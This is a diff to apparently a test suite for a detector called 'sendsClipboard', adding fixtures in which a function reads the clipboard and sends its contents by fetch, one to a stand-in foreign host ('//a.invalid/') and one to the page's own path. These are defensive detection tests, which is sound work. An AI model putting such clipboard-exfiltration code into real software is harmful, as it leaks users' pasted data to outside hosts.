@@ -28,6 +28,16 @@ examine(sendsClipboard, {
       },
       weight: 'strong',
     },
+    {
+      when: 'another host is named without a scheme',
+      files: { 'index.js': `export async function look() { await fetch('//a.invalid/' + (await navigator.clipboard.readText())) }` },
+      weight: 'strong',
+    },
+    {
+      when: 'a page asks its own host for what was pasted',
+      files: { 'index.js': `export async function look() { await fetch('/search/' + (await navigator.clipboard.readText())) }` },
+      weight: 'context',
+    },
   ],
   silent: [
     { when: 'a button copies', files: { 'index.js': `export const copy = text => navigator.clipboard.writeText(text)` } },
